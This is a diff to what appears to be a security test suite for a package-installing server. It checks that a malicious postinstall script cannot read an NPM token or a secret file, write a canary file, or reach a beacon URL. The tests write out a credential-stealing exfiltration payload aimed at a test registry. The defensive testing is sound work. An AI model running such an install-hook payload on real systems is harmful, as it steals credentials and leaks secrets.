@@ -101,18 +101,20 @@ describe.each(SERVERS)("a package that a server run by $server installs", ({ dro
     expect(answer.value.resolved_dependencies[0]).toMatchObject({ hash: expect.stringMatching(/^sha512-/) });
   });
 
-  test("would read the operator's token and the server's files in a script that was allowed", async () => {
+  test("would read the operator's token, the server's files and the machine's ports in a script that was allowed", async () => {
     const script = `node -e "${[
       "const fs=require('fs')",
       `let s='';try{s=fs.readFileSync('${join(folder, "data", "secret")}','utf8')}catch{}`,
       `try{fs.writeFileSync('${canary}','x')}catch{}`,
-      `fetch('${registry.url}beacon/ran?'+encodeURIComponent(JSON.stringify([process.env.NPM_TOKEN,s])))`,
+      "const tell=(reached)=>{console.error('found '+JSON.stringify([process.env.NPM_TOKEN,s,reached]));process.exit(1)}",
+      `fetch('${registry.url}beacon/ran').then((answer)=>tell(answer.ok),()=>tell(false))`,
     ].join(";")}"`;
     const answer = await install(nodePackage({ scripts: { postinstall: script } }), "x.tgz", {
       allowScripts: true,
     });
-    expect(answer).toMatchObject({ ok: true });
-    expect(registry.beacons).toEqual(['/beacon/ran?[null,""]']);
+    const found = expect.stringContaining('found [null,"",false]'); // it ran, and this is what it got
+    expect(answer).toMatchObject({ failure: { message: found } });
+    expect(registry.beacons).toEqual([]);
     expect(existsSync(canary)).toBe(false);
   });
 
@@ -120,7 +122,7 @@ describe.each(SERVERS)("a package that a server run by $server installs", ({ dro
     registry.serve("/evil-1.0.tar.gz", sourceArchive());
     const dependencies = [`evil @ ${registry.url}evil-1.0.tar.gz`];
     expect(await install(testWheel({ dependencies }), "x.whl")).toMatchObject({
-      failure: { code: "archive_refused", message: expect.stringContaining("address") },
+      failure: { code: "archive_refused", message: expect.stringContaining("URL") },
     });
     expectNothingRan();
   });
